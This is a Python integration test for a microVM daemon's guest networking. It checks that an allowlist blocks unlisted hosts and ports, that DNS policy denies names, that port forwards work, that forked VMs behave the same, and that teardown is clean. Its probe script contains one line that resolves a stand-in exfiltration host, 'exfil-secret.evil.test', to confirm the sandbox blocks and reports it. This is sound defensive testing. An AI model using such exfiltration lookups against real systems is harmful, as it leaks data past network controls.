"""Guest networking end to end with a real microVM: allowlist enforced, DNS policy, report, fork, teardown.

Boots one VM (the default vCPUs, 512 MiB) behind an allowlist naming host A:8080 (test hosts A and B live in
namespaces this test creates; no outside address is ever used), reaches a server in the guest through an
inbound port forward, then forks one child that must reach A with the same guest addresses from its own
namespace, and whose copy of the server answers through a forward of its own. Needs the virtio-net device and the VMM's --net-*
flags (docs/networking.md); root for the namespaces. Run under /work/wt/vmlock on shared hosts.
"""

from __future__ import annotations

import os
import shutil
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from microvm import VM_CPUS
from test_daemon_fork_vm import artifacts, daemon_process, sh  # noqa: F401 (fixtures)
from test_net_host import HTTP_PORT, OTHER_PORT, world  # noqa: F401 (fixture)

from smold.api.v1 import smol_pb2 as pb
from smold.api.v1 import smol_pb2_grpc as pb_grpc
from smold.images.artifacts import Artifacts
from smold.net import netns
from smold.net.manager import host_if_name, namespace_name, network_leftovers

pytestmark = [
    pytest.mark.kvm, pytest.mark.linux, pytest.mark.netns, pytest.mark.timeout(1800),
    pytest.mark.skipif(os.geteuid() != 0, reason="needs root (network namespaces)"),
    pytest.mark.skipif(not all(shutil.which(t) for t in ("nft", "nsenter")), reason="needs nft and nsenter"),
]

@pytest.fixture
def daemon(artifacts: Artifacts) -> Iterator[tuple[pb_grpc.SmolStub, Path]]:  # noqa: F811
    """A jailed daemon (#19: a networked machine under the jail; each VMM under a uid of its own, its tap handed
    to that uid): the allowlist, the forwards and the fork below all run through jailed VMMs."""
    with daemon_process("--jail", "--jail-uid", "64200", "--jail-gid", "64200") as served:
        yield served


PROBE = r"""
import socket, struct, sys
def get(addr, port):
    try:
        with socket.create_connection((addr, port), timeout=3) as s:
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
            return "ok" if s.recv(16).startswith(b"HTTP/1.0 200") else "bad"
    except OSError as e:
        return type(e).__name__
def resolves(name):
    try:
        socket.getaddrinfo(name, 80, socket.AF_INET)
        return "resolved"
    except OSError:
        return "unresolved"
a, b = sys.argv[1], sys.argv[2]
print(get(a, @HTTP@), get(b, @HTTP@), get(a, @OTHER@), resolves("exfil-secret.evil.test"))
""".replace("@HTTP@", str(HTTP_PORT)).replace("@OTHER@", str(OTHER_PORT))


GUEST_HTTP_PORT = 8000
NO_PROXY = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # straight to 127.0.0.1


def fetch_until_ok(port: int, path: str, timeout: float = 300) -> str:
    """GET http://127.0.0.1:port/path from the host until it answers 200 (the guest's server starts slowly
    on an emulated kernel); the body, stripped."""
    deadline = time.monotonic() + timeout
    while True:
        try:
            with NO_PROXY.open(f"http://127.0.0.1:{port}{path}", timeout=30) as r:
                return r.read().decode().strip()
        except OSError as e:
            if time.monotonic() > deadline:
                raise AssertionError(f"no answer through the forward on port {port}: {e!r}") from e
            time.sleep(2)


def probe(stub: pb_grpc.SmolStub, machine: str, a: str, b: str) -> list[str]:
    return sh(stub, machine, f"python3 -c '{PROBE}' {a} {b}").split()


def test_allowlist_in_a_real_guest(daemon: tuple[pb_grpc.SmolStub, object], world: dict[str, str]) -> None:  # noqa: F811
    stub, _ = daemon
    a, b = world["addr_a"], world["addr_b"]
    text = f'image = "default"\ncpus = {VM_CPUS}\nmemory = "512M"\n' \
           f'network = {{ allow = ["{a}:{HTTP_PORT}"], forward = ["{GUEST_HTTP_PORT}"] }}\n' \
           "[timeouts]\nboot = 900\n"
    m = stub.CreateMachine(pb.CreateMachineRequest(smolfile=pb.Smolfile(toml=pb.SmolfileToml(text=text))),
                           timeout=1500).machine
    ids = [m.id]
    try:
        links = sh(stub, m.id, "ls /sys/class/net | sort | tr '\\n' ' '").split()
        assert links == ["eth0", "lo"]
        assert probe(stub, m.id, a, b) == ["ok", "TimeoutError", "TimeoutError", "unresolved"]

        report = stub.GetMachine(pb.GetMachineRequest(machine_id=m.id)).machine.network
        denied = {(d.address, d.protocol, d.port) for d in report.denied}
        assert {(b, "tcp", HTTP_PORT), (a, "tcp", OTHER_PORT)} <= denied
        assert "exfil-secret.evil.test" in {n.name for n in report.denied_names}

        # an inbound forward: the host reaches a server in the guest (which the allowlist does not name)
        sh(stub, m.id, f"echo parent > /tmp/who; cd /tmp && setsid python3 -m http.server {GUEST_HTTP_PORT} "
                       "</dev/null >/dev/null 2>&1 &")
        (fwd,) = stub.GetMachine(pb.GetMachineRequest(machine_id=m.id)).machine.forwarded_ports
        assert (fwd.guest_port, fwd.host_address) == (GUEST_HTTP_PORT, "127.0.0.1") and fwd.host_port
        assert fetch_until_ok(fwd.host_port, "/who") == "parent"

        child = stub.Fork(pb.ForkRequest(machine_id=m.id, count=1), timeout=1500).machines[0]
        ids.append(child.id)
        assert namespace_name(child.id) in netns.list_namespaces()
        assert probe(stub, child.id, a, b)[:2] == ["ok", "TimeoutError"]
        # the child has the server too (same processes), behind a forward of its own on another host port
        sh(stub, child.id, "echo child > /tmp/who")
        (cfwd,) = child_ports = stub.GetMachine(pb.GetMachineRequest(machine_id=child.id)).machine.forwarded_ports
        assert cfwd.guest_port == GUEST_HTTP_PORT and cfwd.host_port != fwd.host_port, child_ports
        assert fetch_until_ok(cfwd.host_port, "/who") == "child"
        assert fetch_until_ok(fwd.host_port, "/who") == "parent"
    finally:
        for mid in ids:
            stub.DestroyMachine(pb.DestroyMachineRequest(machine_id=mid), timeout=300)
    for mid in ids:
        assert network_leftovers(namespace_name(mid), host_if_name(mid)) == []
